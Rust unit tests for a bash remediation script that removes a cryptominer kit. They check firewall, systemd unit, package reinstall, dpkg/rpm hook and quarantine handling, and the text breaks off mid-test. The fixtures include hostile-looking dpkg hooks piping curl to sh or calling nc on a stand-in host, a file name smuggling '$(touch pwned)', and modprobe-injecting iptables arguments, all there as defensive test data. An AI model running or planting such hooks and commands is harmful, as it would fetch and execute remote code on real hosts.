//! Unit tests of `template.sh`'s functions (review s4 of the remediation: items 3, 6, 7, 8, 9). Each test
//! runs bash on the template's code above its main section (the plan data left out), as the script runs
//! it (`--mt-clean`: no re-exec, fixed PATH, `set -u`, umask 077), followed by a few lines of its own in a
//! scratch directory. Host commands are stubbed as shell functions that log their arguments (a function
//! wins over the fixed PATH), so what the script would run on a host is checked without a host: no
//! systemd, no package manager and no kernel table is touched. The quarantine test needs root (the script
//! checks that every quarantine directory is root's), as CI runs.

use std::path::Path;
use std::process::Command;

use super::script::TEMPLATE;

/// The template's code: everything above its main section. `MT_TEMPLATE_UNDER_TEST=PATH` runs the
/// same cases on another template (an older one, to see a case fail before its fix) without a rebuild.
fn functions() -> String {
    let t = match std::env::var_os("MT_TEMPLATE_UNDER_TEST") {
        Some(p) => std::fs::read_to_string(&p).expect("MT_TEMPLATE_UNDER_TEST is readable"),
        None => TEMPLATE.to_owned(),
    };
    let end = t
        .find("\n# --- main ")
        .expect("template.sh has a main section");
    t[..end].to_owned()
}

/// Runs the template's functions then `body` in `dir`; returns the exit status and stdout + stderr.
fn bash(dir: &Path, body: &str) -> (i32, String) {
    let file = dir.join("case.sh");
    std::fs::write(
        &file,
        format!("{}\ncd -- {}\n{body}\n", functions(), sh_quote(dir)),
    )
    .unwrap();
    let out = Command::new("bash")
        .arg(&file)
        .args(["--mt-clean", "-"])
        .current_dir(dir)
        .output()
        .expect("bash runs");
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    (out.status.code().unwrap_or(-1), text)
}

fn sh_quote(p: &Path) -> String {
    format!("'{}'", p.display().to_string().replace('\'', r"'\''"))
}

/// A bash assignment of `MT_F` (the selected record's fields) as the generator encodes them: hex, `-`
/// for empty.
fn record(fields: &[&[u8]]) -> String {
    let hex: Vec<String> = fields
        .iter()
        .map(|f| {
            if f.is_empty() {
                "-".to_owned()
            } else {
                hex::encode(f)
            }
        })
        .collect();
    format!("MT_F=({})", hex.join(" "))
}

/// A `fw-delete` record for `args` in `tables` (family 4, gate open).
fn fw_record(tables: &str, args: &[&str]) -> String {
    let count = args.len().to_string();
    let mut f: Vec<&[u8]> = vec![
        b"7",
        b"fw-delete",
        b"contain",
        b"t",
        b"t",
        b"w",
        b"4",
        tables.as_bytes(),
        count.as_bytes(),
    ];
    f.extend(args.iter().map(|a| a.as_bytes()));
    f.push(b"");
    record(&f)
}

/// Stubs of iptables (legacy or nf_tables backend), its save tool and nft: every call is logged to
/// `calls`, no rule is ever found.
fn firewall_stubs(backend: &str) -> String {
    format!(
        r#"
MT_PROC_NET=$PWD/net MT_SYS_MODULE=$PWD/mod MT_MODULES_DIR=$PWD/lib MT_PROC_MODULES=$PWD/modules
mkdir -p net mod lib
: >modules
iptables() {{ printf 'iptables %s\n' "$*" >>calls; [[ $1 == -V ]] && echo 'iptables v1.8.9 ({backend})'; [[ $1 == -V ]]; }}
ip6tables() {{ printf 'ip6tables %s\n' "$*" >>calls; [[ $1 == -V ]] && echo 'ip6tables v1.8.9 ({backend})'; [[ $1 == -V ]]; }}
iptables-save() {{ printf 'iptables-save %s\n' "$*" >>calls; printf '*filter\n*nat\n'; }}
nft() {{ printf 'nft %s\n' "$*" >>calls; }}
: >calls
"#
    )
}

fn calls(dir: &Path) -> String {
    std::fs::read_to_string(dir.join("calls")).unwrap_or_default()
}

#[test]
fn a_dry_run_names_only_the_rules_table_and_only_when_the_kernel_has_it() {
    let dir = tempfile::tempdir().unwrap();
    // iptables-legacy with only the filter table loaded: the nat rule is never looked for (naming nat
    // would load it and start connection tracking), the filter rule is checked in filter alone.
    let body = format!(
        "{}\nMT_MODE=dry\nprintf 'filter\\n' >net/ip_tables_names\n{}\nmt_state_fw_delete\necho \"nat: $MT_STATE\"\n{}\nmt_state_fw_delete\necho \"filter: $MT_STATE\"\n",
        firewall_stubs("legacy"),
        fw_record("nat", &["PREROUTING", "-p", "tcp", "--dport", "80", "-j", "REDIRECT", "--to-ports", "3333"]),
        fw_record("filter", &["INPUT", "-p", "tcp", "--dport", "6379", "-j", "ACCEPT"]),
    );
    let (rc, out) = bash(dir.path(), &body);
    assert_eq!(rc, 0, "{out}");
    assert!(
        out.contains("nat: done") && out.contains("filter: done"),
        "{out}"
    );
    let log = calls(dir.path());
    for table in ["nat", "mangle", "raw", "security"] {
        assert!(
            !log.contains(&format!("-t {table}")),
            "{table} named:\n{log}"
        );
    }
    assert!(
        log.contains("iptables -w -t filter -C INPUT -p tcp --dport 6379 -j ACCEPT"),
        "{log}"
    );
}

#[test]
fn read_only_modes_never_load_nf_tables() {
    let dir = tempfile::tempdir().unwrap();
    // iptables-nft and nft on a host where nf_tables is not loaded: no table can hold the rule and asking
    // would load the module, so neither the rule check nor the block state asks anything.
    let body = format!(
        "{}\nfor MT_MODE in dry verify; do\nMT_FW=''\n{}\nmt_state_fw_delete\necho \"rule: $MT_STATE\"\n{}\nmt_state_block\necho \"block: $MT_STATE\"\ndone\n",
        firewall_stubs("nf_tables"),
        fw_record("filter", &["INPUT", "-s", "1.2.3.4/32", "-j", "ACCEPT"]),
        record(&[b"8", b"block", b"contain", b"t", b"t", b"w", b"4", b"127.66.0.1", b"3333", b""]),
    );
    let (rc, out) = bash(dir.path(), &body);
    assert_eq!(rc, 0, "{out}");
    assert!(
        out.contains("rule: done") && out.contains("block: pending"),
        "{out}"
    );
    let log = calls(dir.path());
    assert!(!log.contains("nft "), "nft asked:\n{log}");
    assert!(!log.contains(" -C "), "iptables asked:\n{log}");
    assert!(!log.contains("iptables-save"), "{log}");
}

#[test]
fn rule_arguments_getopt_reads_as_modprobe_or_table_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let mut body = firewall_stubs("legacy");
    let bad = [
        "-M/tmp/.x/p",
        "-vM/tmp/.x/p",
        "--modp=/tmp/.x/p",
        "--modp",
        "--mod",
        "-tnat",
        "--tab",
        "--tab=nat",
        "-w5",
        "-A",
        "--append",
    ];
    for (i, a) in bad.iter().enumerate() {
        body.push_str(&fw_record(
            "filter",
            &["INPUT", "-s", "1.2.3.4", a, "-j", "DROP"],
        ));
        body.push_str(&format!(
            "\nmt_fw_delete_fields && echo 'taken {i}' || echo 'refused {i}'\n"
        ));
    }
    body.push_str(&fw_record(
        "filter,nat",
        &[
            "INPUT",
            "!",
            "-s",
            "1.2.3.4",
            "-m",
            "comment",
            "--comment",
            "a b",
            "-m",
            "recent",
            "--set",
            "-j",
            "DROP",
        ],
    ));
    body.push_str("\nmt_fw_delete_fields && echo \"good ${#MT_TABLES[@]}\"\n");
    let (_, out) = bash(dir.path(), &body);
    for (i, a) in bad.iter().enumerate() {
        assert!(out.contains(&format!("refused {i}\n")), "{a} taken:\n{out}");
    }
    assert!(out.contains("good 2"), "{out}");
}

/// The unit test bench: a unit file the system manager loaded from the planned path, systemctl logging
/// each call with whether the unit file is still there (whatever systemd runs of the unit's own lines
/// it reads from that file, as loaded before the next daemon-reload).
fn unit_bench(load_state_after: &str) -> String {
    format!(
        r#"
MT_MODE=apply
mkdir -p etc/systemd/system
MT_PATH=$PWD/etc/systemd/system/kworker.service MT_UNIT=kworker.service MT_PN=1
printf '[Service]\nExecStart=/tmp/.x/kworker\nExecStopPost=/tmp/.x/reinfect\n[Install]\nAlso=ssh.service\n' >"$MT_PATH"
LOADED=$MT_PATH
: >calls
timeout() {{ shift; "$@"; }}
mt_systemd() {{ return 0; }}
mt_unit_links() {{ echo links >>calls; }}
mt_remove_file() {{ rm -f -- "$MT_PATH" && echo removed >>calls; }}
systemctl() {{
  local f=present
  [[ -e $MT_PATH ]] || f=gone
  echo "systemctl $* [file $f, loaded ${{LOADED:-none}}]" >>calls
  case "$*" in
  daemon-reload) [[ $f == gone ]] && LOADED='' ;;
  *FragmentPath*) echo "$LOADED" ;;
  *LoadState*) if [[ -n $LOADED ]]; then echo loaded; else echo {load_state_after}; fi ;;
  esac
  return 0
}}
mt_apply_unit 1
echo "rc=$? $MT_NOTE"
"#
    )
}

#[test]
fn removing_a_unit_runs_none_of_its_commands_and_never_follows_also() {
    let dir = tempfile::tempdir().unwrap();
    let (rc, out) = bash(dir.path(), &unit_bench("not-found"));
    assert_eq!(rc, 0, "{out}");
    assert!(out.contains("rc=0"), "{out}");
    let log = calls(dir.path());
    // `disable` follows [Install] Also= onto the host's units: never called (the links go by identity).
    assert!(!log.contains("systemctl disable"), "{log}");
    // Stop and kill act only on the unit as loaded without its file: its ExecStop*/ExecStopPost, Restart,
    // OnFailure and PropagatesStopTo are gone by then.
    for l in log
        .lines()
        .filter(|l| l.contains(" stop ") || l.contains(" kill "))
    {
        assert!(l.ends_with("[file gone, loaded none]"), "{l}\n{log}");
    }
    assert!(log.contains("systemctl stop -- kworker.service"), "{log}");
    assert!(
        log.contains("systemctl kill -s SIGKILL -- kworker.service"),
        "{log}"
    );
    let reload = log.find("daemon-reload").expect("reloaded");
    assert!(log.find("removed").unwrap() < reload, "{log}");
}

#[test]
fn a_unit_name_the_host_still_provides_is_not_stopped() {
    let dir = tempfile::tempdir().unwrap();
    // After the attacker's file goes, the manager loads the package's unit of that name: only the
    // attacker's processes in the unit's cgroup are killed, the host's unit is not stopped.
    let bench = unit_bench("loaded").replace(
        "daemon-reload) [[ $f == gone ]] && LOADED='' ;;",
        "daemon-reload) [[ $f == gone ]] && LOADED=/lib/systemd/system/kworker.service ;;",
    );
    let (rc, out) = bash(dir.path(), &bench);
    assert_eq!(rc, 0, "{out}");
    let log = calls(dir.path());
    assert!(!log.contains("systemctl stop"), "{log}");
    assert!(!log.contains("systemctl disable"), "{log}");
    assert!(out.contains("start it by hand"), "{out}");
}

#[test]
fn an_existing_quarantine_directory_keeps_its_mode() {
    let dir = tempfile::tempdir().unwrap();
    // `--quarantine /tmp` (any existing directory that is not root's alone): never chmodded; the
    // quarantine is a private subdirectory, the same one for a later --verify or --undo.
    let body = r#"
MT_DATA_SHA256=0123456789abcdef0123456789abcdef MT_SELF=''
mkdir -m 1777 shared
for MT_MODE in apply undo; do
  MT_Q=$PWD/shared MT_Q_GIVEN=1
  mt_quarantine_path
  ( mt_prepare_quarantine ) >/dev/null || echo "prepare failed in $MT_MODE"
  echo "$MT_MODE: shared $(stat -c %a shared), quarantine ${MT_Q#$PWD/} $(stat -c %a "$MT_Q")"
done
"#;
    let (rc, out) = bash(dir.path(), body);
    assert_eq!(rc, 0, "{out}");
    assert!(!out.contains("failed"), "{out}");
    for mode in ["apply", "undo"] {
        assert!(
            out.contains(&format!(
                "{mode}: shared 1777, quarantine shared/minetrace-0123456789abcdef 700"
            )),
            "{out}"
        );
    }
}

/// A reinstall bench: openssh-server, installed at 1:9.2p1-2+deb12u3, owns the replaced file; apt-get's
/// simulation prints `sim`.
fn reinstall_bench(sim: &str) -> String {
    reinstall_bench_with(sim, "")
}

/// [`reinstall_bench`] with `stubs` (shell functions) defined last: dpkg's configuration is clean and the
/// reinstalled file verifies unless they say otherwise.
fn reinstall_bench_with(sim: &str, stubs: &str) -> String {
    format!(
        r#"
MT_MODE=apply MT_Q=$PWD/q MT_PM=dpkg MT_PKG=openssh-server MT_PN=1 MT_SHA=00 MT_PATH=/usr/sbin/sshd
mkdir -p q/work
: >calls
cat >sim <<'EOF'
{sim}
EOF
mt_dpkg_hooks_ok() {{ return 0; }}
mt_pkg_verified() {{ return 0; }}
{stubs}
timeout() {{ shift; "$@"; }}
mt_evidence_ok() {{ return 0; }}
mt_pkg_unowned() {{ return 1; }}
mt_pkg_owner() {{ REPLY=openssh-server; }}
mt_clear_flags_around() {{ :; }}
dpkg-query() {{ printf '1:9.2p1-2+deb12u3'; }}
apt-get() {{
  echo "apt-get $*" >>calls
  [[ " $* " == *' -s '* ]] && cat sim
  return 0
}}
mt_apply_reinstall 5
echo "rc=$? $MT_NOTE"
"#
    )
}

#[test]
fn a_reinstall_is_pinned_to_the_installed_version_and_never_upgrades() {
    let dir = tempfile::tempdir().unwrap();
    let ok = "0 upgraded, 0 newly installed, 1 reinstalled, 0 to remove and 12 not upgraded.\n\
              Inst openssh-server [1:9.2p1-2+deb12u3] (1:9.2p1-2+deb12u3 Debian:12/stable [amd64])\n\
              Conf openssh-server (1:9.2p1-2+deb12u3 Debian:12/stable [amd64])";
    let (rc, out) = bash(dir.path(), &reinstall_bench(ok));
    assert_eq!(rc, 0, "{out}");
    assert!(out.contains("rc=0 package reinstalled"), "{out}");
    let log = calls(dir.path());
    let real: Vec<&str> = log.lines().filter(|l| !l.contains(" -s ")).collect();
    assert_eq!(real.len(), 1, "{log}");
    assert!(
        real[0].ends_with(
            "install --reinstall -y -q --no-install-recommends openssh-server=1:9.2p1-2+deb12u3"
        ),
        "{log}"
    );
    // The real run reads a configuration that empties APT's hooks (apt.conf.d is attacker-writable).
    assert!(real[0].contains(" -c "), "{log}");
    let conf = std::fs::read_to_string(dir.path().join("q/work/apt-reinstall.conf")).unwrap();
    assert!(
        conf.contains("#clear DPkg::Pre-Invoke;") && conf.contains("#clear DPkg::Post-Invoke;")
    );

    // An older installed version: apt would upgrade it and its dependencies. Nothing is installed.
    let dir = tempfile::tempdir().unwrap();
    let upgrade = "2 upgraded, 0 newly installed, 0 to remove and 11 not upgraded.\n\
                   Inst openssh-server [1:9.2p1-2+deb12u2] (1:9.2p1-2+deb12u3 Debian:12/stable [amd64])\n\
                   Inst openssh-client [1:9.2p1-2+deb12u2] (1:9.2p1-2+deb12u3 Debian:12/stable [amd64])";
    let (_, out) = bash(dir.path(), &reinstall_bench(upgrade));
    assert!(out.contains("rc=1 apt would change more"), "{out}");
    let log = calls(dir.path());
    assert!(log.lines().all(|l| l.contains(" -s ")), "{log}");

    // A reinstall that drags another package in: refused as well.
    let dir = tempfile::tempdir().unwrap();
    let more = "0 upgraded, 1 newly installed, 1 reinstalled, 0 to remove and 12 not upgraded.\n\
                Inst libfoo1 (1.0 Debian:12/stable [amd64])\n\
                Inst openssh-server [1:9.2p1-2+deb12u3] (1:9.2p1-2+deb12u3 Debian:12/stable [amd64])";
    let (_, out) = bash(dir.path(), &reinstall_bench(more));
    assert!(out.contains("rc=1 apt would change more"), "{out}");
}

/// Review of train 2, item 4: dpkg (`dpkg_options_load_file`) takes the run of `[A-Za-z0-9-]` at the
/// start of a line as the option's name and any one byte after it as the separator, so
/// `post-invoke:cmd` and `status-logger"cmd"` are hooks dpkg runs; a line longer than dpkg's line
/// buffer is read in pieces, so what follows its first 1023 bytes is read as a line of its own. Each is
/// refused unless a package vouches for the file; look-alike names dpkg rejects are not hooks.
#[test]
fn dpkg_hooks_are_read_as_dpkg_reads_them() {
    let dir = tempfile::tempdir().unwrap();
    let body = r#"
printf 'Package: dpkg\n' >status
ok() { if mt_dpkg_hooks_ok "$PWD/status" "$PWD/$1"; then echo "$1: ok"; else echo "$1: refused"; fi; }
printf 'post-invoke:touch /tmp/x\n' >colon; ok colon
printf 'status-logger"nc 127.66.1.1 9"\n' >quote; ok quote
printf 'post-invoke,sh -c id\n' >comma; ok comma
printf 'Post-Invoke=touch /tmp/x\n' >upper; ok upper
printf 'pre-invoke\ttouch /tmp/x\r\n' >tab; ok tab
{ printf '#%.0s' $(seq 1 1023); printf 'post-invoke:touch /tmp/x\n'; } >long; ok long
printf 'path-exclude=/usr/share/doc/*\n# post-invoke:commented\nforce-confold\npost-invoker=x\n' >clean; ok clean
"#;
    let (rc, out) = bash(dir.path(), body);
    assert_eq!(rc, 0, "{out}");
    for want in [
        "colon: refused",
        "quote: refused",
        "comma: refused",
        "upper: refused",
        "tab: refused",
        "long: refused",
        "clean: ok",
    ] {
        assert!(out.contains(want), "{want}:\n{out}");
    }
}

#[test]
fn a_reinstall_never_runs_dpkgs_own_hooks_and_checks_what_it_installed() {
    let dir = tempfile::tempdir().unwrap();
    // Issue 13, dpkg's own hooks: dpkg.cfg(.d) options pre-invoke, post-invoke and status-logger run at
    // every dpkg run, the reinstall's too, and apt's #clear does not reach them. A file holding one is
    // vouched for only as a package's conffile with its recorded digest (pkg-config's hook); an
    // intruder's is refused; names dpkg does not read, and comments, do not count.
    let body = r#"
mkdir -p dpkg.cfg.d
printf 'post-invoke=if test "$DPKG_HOOK_ACTION" = add-architecture; then /usr/share/pkg-config-dpkghook update; fi\n' >dpkg.cfg.d/pkg-config-hook-config
sum=$(md5sum <dpkg.cfg.d/pkg-config-hook-config)
printf 'Package: pkg-config\nConffiles:\n %s %s\n' "$PWD/dpkg.cfg.d/pkg-config-hook-config" "${sum%% *}" >status
printf '# post-invoke=echo commented\npath-exclude=/usr/share/doc/*\n' >dpkg.cfg.d/excludes
printf 'post-invoke=curl -s http://127.66.1.1/a|sh\n' >dpkg.cfg.d/bad.conf
ok() { if mt_dpkg_hooks_ok "$PWD/status" "${@:2}"; then echo "$1: ok"; else echo "$1: refused"; fi; }
ok clean "$PWD/dpkg.cfg.d/pkg-config-hook-config" "$PWD/dpkg.cfg.d/excludes" "$PWD/dpkg.cfg.d/bad.conf"
printf 'pre-invoke="touch /tmp/x"\n' >dpkg.cfg.d/99local
ok 99local "$PWD/dpkg.cfg.d/99local"
printf -- '--status-logger=nc 127.66.1.1 9\n' >dotcfg
ok dotcfg "$PWD/dotcfg"
printf 'post-invoke=echo changed\n' >>dpkg.cfg.d/pkg-config-hook-config
ok changed "$PWD/dpkg.cfg.d/pkg-config-hook-config"
"#;
    let (rc, out) = bash(dir.path(), body);
    assert_eq!(rc, 0, "{out}");
    for want in [
        "clean: ok",
        "99local: refused",
        "dotcfg: refused",
        "changed: refused",
    ] {
        assert!(out.contains(want), "{want}:\n{out}");
    }
    // The reinstall refuses with such a hook, and a reinstall that leaves other bytes fails.
    let ok = "0 upgraded, 0 newly installed, 1 reinstalled, 0 to remove and 12 not upgraded.\n\
              Inst openssh-server [1:9.2p1-2+deb12u3] (1:9.2p1-2+deb12u3 Debian:12/stable [amd64])\n\
              Conf openssh-server (1:9.2p1-2+deb12u3 Debian:12/stable [amd64])";
    let dir = tempfile::tempdir().unwrap();
    let (_, out) = bash(
        dir.path(),
        &reinstall_bench_with(ok, "mt_dpkg_hooks_ok() { return 1; }"),
    );
    assert!(out.contains("rc=1 dpkg's configuration"), "{out}");
    assert!(calls(dir.path()).is_empty(), "{}", calls(dir.path()));
    let dir = tempfile::tempdir().unwrap();
    let (_, out) = bash(
        dir.path(),
        &reinstall_bench_with(ok, "mt_pkg_verified() { return 1; }"),
    );
    assert!(
        out.contains("rc=1 package reinstalled, but the file still differs"),
        "{out}"
    );
}

/// A move-back bench (issue 13, MT-EVA-024): the kit moved the packaged `usrbin/chattr` (bytes
/// `chattr-bytes`) to `kit/$NAME` (a hostile name: a newline and `$(...)`); the plan record
/// `rename-back` names the moved file with its snapshot identity and the package path. dpkg's md5sums
/// (in `info/`) record `RECORDED` for the package path. Flags and bind mounts are stubbed; `hexof`,
/// `src`, `dest` and `run` (the selected record's state and apply) are defined for `body`.
fn rename_back_bench(recorded: &str, body: &str) -> String {
    rename_back_bench_in("$PWD/kit", recorded, body)
}

/// [`rename_back_bench`] with the moved file in directory `kit` (a shell word: another file system).
fn rename_back_bench_in(kit: &str, recorded: &str, body: &str) -> String {
    format!(
        r#"
MT_MODE=apply MT_Q=$PWD/q top=$PWD
MT_DPKG_INFO=$PWD/info
mkdir -p q/files q/work info kit usrbin
hexof() {{ local h; h=$(printf '%s' "$1" | od -An -v -tx1 | tr -d ' \n'); printf '%s' "${{h:--}}"; }}
NAME=$'zz\n$(touch pwned)'
kit={kit}
src=$kit/$NAME
dest=$PWD/usrbin/chattr
printf 'chattr-bytes' >"$src"
chmod 0751 "$src"
read -r dev ino size < <(stat -c '%d %i %s' -- "$src")
sum=$(sha256sum <"$src")
sum=${{sum%% *}}
md5=$(md5sum <"$src")
md5=${{md5%% *}}
want={recorded}
[[ $want == FILE ]] && want=$md5
printf '%s  %s\n' "$want" "${{dest#/}}" >info/e2fsprogs.md5sums
MT_F=(39 $(hexof rename-back) 70 74 74 77 $(hexof "$src") $(hexof "$dev") $(hexof "$ino") $(hexof "$sum") $(hexof "$size") \
  $(hexof 1) $(hexof "$dest") $(hexof md5) -)
mt_clear_flags() {{ :; }}
mt_not_under_bind() {{ return 0; }}
state() {{ mt_state_rename_back; echo "state: $MT_STATE ($MT_NOTE)"; }}
apply() {{ if mt_apply_rename_back 39; then echo "apply: ok ($MT_NOTE)"; else echo "apply: refused ($MT_NOTE)"; fi; cd -- "$top"; }}
{body}
"#
    )
}

#[test]
fn a_moved_tool_goes_back_once_keeps_its_inode_and_mode_and_undo_moves_it_again() {
    let dir = tempfile::tempdir().unwrap();
    let body = r#"
state
MT_FLAGTOOL=none
apply
echo "flag tool after: $MT_FLAGTOOL"
state
ls -A kit | wc -l | sed 's/^/kit entries: /'
stat -c 'dest: %a same-inode:%i' -- "$dest" | sed "s/same-inode:$ino/same-inode:yes/"
[[ -e pwned ]] && echo PWNED
# A second --apply finds it done and changes nothing.
before=$(stat -c '%i %Y' -- "$dest")
state
[[ $(stat -c '%i %Y' -- "$dest") == "$before" ]] && echo 'second: unchanged'
cat q/undo.records | cut -d' ' -f1 | sed 's/^/undo record: /'
MT_MODE=undo
mt_undo
cd -- "$top"
[[ -e $src && ! -e $dest ]] && echo 'undone: at the moved name again'
"#;
    let (rc, out) = bash(dir.path(), &rename_back_bench("FILE", body));
    assert_eq!(rc, 0, "{out}");
    assert!(
        out.contains("state: pending (the package path is missing and the package database records this file for it)"),
        "{out}"
    );
    assert!(
        out.contains("apply: ok (moved back to its package path)"),
        "{out}"
    );
    assert!(
        out.contains("state: done (it is back at its package path)"),
        "{out}"
    );
    assert!(out.contains("kit entries: 0"), "{out}");
    // A chattr that is back is picked again for the next flag change (review of train 2, item 6).
    assert!(out.contains("flag tool after: unset"), "{out}");
    assert!(out.contains("dest: 751 same-inode:yes"), "{out}");
    assert!(out.contains("second: unchanged"), "{out}");
    assert!(out.contains("undo record: rename-back"), "{out}");
    assert!(out.contains("undone: at the moved name again"), "{out}");
    assert!(!out.contains("PWNED"), "{out}");
}

#[test]
fn a_move_back_is_refused_unless_the_package_database_records_the_files_digest_for_the_path() {
    // The host's md5sums record other bytes for the package path (upgraded since, or the plan's record
    // was not the database's): nothing moves.
    let dir = tempfile::tempdir().unwrap();
    let body = "state\napply\n[[ -e $src && ! -e $dest ]] && echo 'nothing moved'\n";
    let (rc, out) = bash(
        dir.path(),
        &rename_back_bench("0123456789abcdef0123456789abcdef", body),
    );
    assert_eq!(rc, 0, "{out}");
    assert!(
        out.contains("state: mismatch (the package database does not record its digest"),
        "{out}"
    );
    assert!(out.contains("apply: refused"), "{out}");
    assert!(out.contains("nothing moved"), "{out}");

    // Something is at the package path again (reinstalled): left alone, both files as they are.
    let dir = tempfile::tempdir().unwrap();
    let body = "printf 'reinstalled' >\"$dest\"\nstate\napply\n[[ -e $src && $(cat \"$dest\") == reinstalled ]] && echo 'both kept'\n";
    let (_, out) = bash(dir.path(), &rename_back_bench("FILE", body));
    assert!(
        out.contains("state: skip (another file is at the package path"),
        "{out}"
    );
    assert!(out.contains("apply: refused"), "{out}");
    assert!(out.contains("both kept"), "{out}");

    // Review of train 2: the kit made its copy set-uid, writable by others, or its own: left alone (mv
    // would take the mode and owner to the package path).
    for how in ["chmod 4755", "chmod 0757", "chown 1000"] {
        let dir = tempfile::tempdir().unwrap();
        let body = format!(
            "{how} \"$src\"\nstate\napply\n[[ -e $src && ! -e $dest ]] && echo 'nothing moved'\n"
        );
        let (_, out) = bash(dir.path(), &rename_back_bench("FILE", &body));
        assert!(
            out.contains("state: mismatch (its owner or mode is not a packaged tool's"),
            "{how}: {out}"
        );
        assert!(out.contains("nothing moved"), "{how}: {out}");
    }

    // The package path holds the bytes already (the operator reinstalled): only the moved name goes, and
    // its undo record restores it from its evidence copy, never by moving the package's file (review of
    // train 2, item 7).
    let dir = tempfile::tempdir().unwrap();
    let body = "cp -- \"$src\" \"$dest\"\ncp -- \"$src\" q/files/1.bin\nino=$(stat -c %i \"$dest\")\nstate\napply\n[[ ! -e $src && $(stat -c %i \"$dest\") == \"$ino\" ]] && echo 'package file kept'\ncut -d' ' -f1 q/undo.records | sed 's/^/undo record: /'\n";
    let (_, out) = bash(dir.path(), &rename_back_bench("FILE", body));
    assert!(
        out.contains(
            "state: pending (it is at its package path; the moved name is still there too)"
        ),
        "{out}"
    );
    assert!(out.contains("apply: ok"), "{out}");
    assert!(out.contains("package file kept"), "{out}");
    assert!(
        out.contains("undo record: file") && !out.contains("undo record: rename-back"),
        "{out}"
    );

    // The moved file changed since the snapshot: left alone.
    let dir = tempfile::tempdir().unwrap();
    let body = "printf 'x' >>\"$src\"\nstate\napply\n[[ ! -e $dest ]] && echo 'nothing moved'\n";
    let (_, out) = bash(dir.path(), &rename_back_bench("FILE", body));
    assert!(
        out.contains("state: mismatch (its content changed"),
        "{out}"
    );
    assert!(out.contains("nothing moved"), "{out}");
}

#[test]
fn on_an_rpm_host_the_move_back_asks_rpm_for_the_package_paths_digest() {
    let dir = tempfile::tempdir().unwrap();
    // No dpkg database: rpm is asked (stubbed), with the file hashed in the plan's algorithm.
    let body = r#"
MT_DPKG_INFO=$PWD/no-dpkg
rpm() { echo "rpm $*" >>calls; printf '%s %s\n' "$dest" "$RPM_SUM"; }
mt_rpm_hooks_ok() { return 0; }
RPM_SUM=$md5
state
RPM_SUM=0123456789abcdef0123456789abcdef
state
grep -c -- '-qf' calls | sed 's/^/rpm asked: /'
# rpm's configuration points it at another database (%_dbpath in a macro file no package vouches for):
# its answer is not taken (review of train 2, item 5).
mt_rpm_hooks_ok() { MT_NOTE='a %_dbpath'; return 1; }
RPM_SUM=$md5
state
"#;
    let (rc, out) = bash(dir.path(), &rename_back_bench("FILE", body));
    assert_eq!(rc, 0, "{out}");
    assert!(out.contains("state: pending"), "{out}");
    assert!(
        out.contains("state: mismatch (the package database does not record"),
        "{out}"
    );
    assert!(out.contains("rpm asked: 2"), "{out}");
    assert!(
        out.contains("state: mismatch (rpm's configuration cannot be trusted to say what the package installed (a %_dbpath)"),
        "{out}"
    );
}

#[test]
fn a_tool_moved_to_another_file_system_is_copied_back_with_its_owner_and_mode() {
    let dir = tempfile::tempdir().unwrap();
    // Review of train 2, item 1: the cross-device branch (the kit's copy on /dev/shm, a tmpfs): copied
    // beside the package path with the moved file's (plain) owner and mode, then linked in.
    let body = r#"
state
apply
stat -c 'dest: %a %u:%g' -- "$dest"
[[ ! -e $src ]] && echo 'moved name gone'
cut -d' ' -f1 q/undo.records | sed 's/^/undo record: /'
ls -A usrbin | grep -c minetrace | sed 's/^/leftover temp files: /'
rm -rf -- "$kit"
"#;
    let (rc, out) = bash(
        dir.path(),
        &rename_back_bench_in("$(mktemp -d /dev/shm/mt-rename-back.XXXXXX)", "FILE", body),
    );
    assert_eq!(rc, 0, "{out}");
    assert!(
        out.contains("apply: ok (moved back to its package path)"),
        "{out}"
    );
    assert!(out.contains("dest: 751 0:0"), "{out}");
    assert!(out.contains("moved name gone"), "{out}");
    assert!(out.contains("undo record: rename-back"), "{out}");
    assert!(out.contains("leftover temp files: 0"), "{out}");
}

/// A respawn-set bench: the set record names the kit file `kit/kworker` (bytes `miner`) with its
/// device and inode, and `usr/bin/` as a package directory; `fd N` below is how a process would show it
/// (`/proc/$$/fd/N` of the bench's own shell: the link names the file as `/proc/PID/exe` does).
fn set_bench(body: &str) -> String {
    format!(
        r#"
mkdir -p kit usr/bin
printf miner >kit/kworker
kit=$PWD/kit/kworker
read -r id size < <(stat -L -c '%d:%i %s' -- "$kit")
hexof() {{ printf '%s' "$1" | od -An -v -tx1 | tr -d ' \n'; }}
sum=$(sha256sum <"$kit")
sum=${{sum%% *}}
MT_F=(31 $(hexof kill-set) 6b 74 74 77 30 31 $(hexof "${{id%%:*}}") $(hexof "${{id#*:}}") $(hexof "$kit") \
  $(hexof "$size") $(hexof "$sum") - 30 30 30 31 $(hexof "$PWD/usr/bin/") -)
mt_set_fields || echo 'fields refused'
member() {{ if mt_kit_file "$1" "$2" "$3"; then echo "$4: member"; else echo "$4: not"; fi; }}
{body}
"#
    )
}

#[test]
fn a_kit_inode_counts_only_while_the_kernel_names_the_planned_file() {
    let dir = tempfile::tempdir().unwrap();
    // Review s4 #2: after the kit file is removed its inode number is reused (a database's temp file).
    // Such a file has the planned identity but another name: never a member. The kit file itself, still
    // open or running after its removal (`PATH (deleted)`), stays one.
    let body = set_bench(
        r#"
exec 7<"$kit"
member "$id" "$size" /proc/$$/fd/7 'the kit file'
rm -f -- "$kit"
member "$id" "$size" /proc/$$/fd/7 'the kit file, removed'
printf 'mysql temp\n' >ibtmp
exec 8<ibtmp
member "$id" 11 /proc/$$/fd/8 'another file with the kit identity'
"#,
    );
    let (rc, out) = bash(dir.path(), &body);
    assert_eq!(rc, 0, "{out}");
    for want in [
        "the kit file: member",
        "the kit file, removed: member",
        "another file with the kit identity: not",
    ] {
        assert!(out.contains(want), "{want}:\n{out}");
    }
    assert!(!out.contains("refused"), "{out}");
}

#[test]
fn a_cgroup_is_frozen_with_the_children_its_members_forked_since_the_scan() {
    let dir = tempfile::tempdir().unwrap();
    // Issue 13, the cgroup freezer: a watchdog loop forks `pgrep` and `sleep` several times a second, so
    // by the time the freezer reads cgroup.procs it holds children the last scan of the set never saw.
    // They descend from a member: the cgroup is still frozen whole. A process the scan saw and left out
    // (not a member) keeps the freezer off. The cgroup is a stand-in directory (cgroup.freeze, .events,
    // .procs files); the processes are real (this shell is the member, its fresh child the new one).
    let body = r#"
MT_CG2=$PWD/cg
mkdir -p cg/kit
printf 'frozen 1
' >cg/kit/cgroup.events
: >cg/kit/cgroup.freeze
MT_SET=([$$]=S) MT_SET_SEEN=([$$]=1)
sleep 5 &
